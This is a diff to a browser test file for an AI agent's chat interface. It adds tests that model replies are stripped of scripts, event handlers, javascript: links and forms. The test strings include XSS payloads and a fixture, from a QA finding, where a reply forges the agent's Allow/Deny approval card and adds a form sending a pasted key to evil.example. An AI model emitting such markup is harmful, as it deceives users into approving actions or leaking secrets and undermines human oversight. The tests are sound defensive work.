@@ -29,7 +29,7 @@ except ImportError:  # pragma: no cover
 
 CSP = (
     "default-src 'self'; script-src 'self'; style-src 'self'; "
-    "img-src 'self' data: blob:; connect-src 'self'; frame-ancestors 'none'"
+    "img-src 'self' data: blob:; connect-src 'self'; frame-ancestors 'none'; form-action 'none'"
 )
 
 
@@ -79,23 +79,62 @@ def test_the_ui_runs_under_the_csp_without_a_violation(browser):
         pg.context.close()
 
 
+def _replied(pg: Any, model: SteeredModel, text: str) -> Any:
+    """A message sent and the model's reply `text`: the reply as the page shows it."""
+    box = pg.get_by_role("textbox", name="message")
+    box.fill("hi")
+    box.press("Enter")
+    model.reply(text)
+    return pg.locator(".msg.assistant:not(.live)")
+
+
 def test_a_script_in_a_reply_is_stripped(browser):
     model = SteeredModel()
     with serve(model) as site:
         pg = site.page(browser)
-        box = pg.get_by_role("textbox", name="message")
-        box.fill("hi")
-        box.press("Enter")
-        model.reply(
+        reply = _replied(
+            pg,
+            model,
             'Look <script>window.owned=1</script><img src=x onerror="window.owned=2">'
-            '<a href="javascript:window.owned=3">link</a> **done**'
+            '<a href="javascript:window.owned=3">link</a> **done**',
         )
-        reply = pg.locator(".msg.assistant:not(.live)")
         expect(reply.locator("strong")).to_have_text("done")
         assert reply.locator("script").count() == 0
         assert reply.locator("[onerror]").count() == 0
         assert "javascript:" not in (reply.locator("a").first.get_attribute("href") or "")
         assert pg.evaluate("window.owned") is None
+        pg.context.close()
+
+
+# qa21p finding 5: a reply that drew an exact copy of the approval card (the UI's own classes
+# on a form with Allow and Deny), and a form that could send what the person typed anywhere.
+SPOOF = (
+    '<div class="approval waiting" id="fake" style="color:red" data-approval="1">'
+    '<div class="approval-tag">The agent wants to run (bash, sandboxed):</div>'
+    '<pre class="approval-command"><code>ls -la notes/</code></pre>'
+    '<form class="approval-actions" method="post" action="/api/memory/review/1/accept">'
+    '<button class="allow">Allow</button> <button class="deny">Deny</button></form></div>'
+    '<form action="https://evil.example/"><input name="key" placeholder="paste your key">'
+    "<select><option>a</option></select><textarea>t</textarea></form>\n\n"
+    "```py\nprint('kept')\n```"
+)
+
+
+def test_a_reply_cannot_draw_the_approval_card_or_a_form(browser):
+    model = SteeredModel()
+    with serve(model) as site:
+        pg = site.page(browser)
+        reply = _replied(pg, model, SPOOF)
+        expect(reply.locator("pre code").last).to_contain_text("print('kept')")
+        expect(reply).to_contain_text("ls -la notes/")  # the text stays, as text
+        for tag in ("form", "button", "input", "select", "textarea", "option"):
+            assert reply.locator(tag).count() == 0, tag
+        assert reply.locator(".approval, [id], [style], [data-approval]").count() == 0
+        # The one class a reply keeps: a code block's language, for its highlighting (which
+        # then adds its own inside the block).
+        assert reply.locator(".md [class]:not(pre code, pre code *)").count() == 0
+        assert reply.locator("code.language-py").count() == 1
+        assert pg.get_by_role("button", name="Allow").count() == 0
         pg.context.close()
 
 
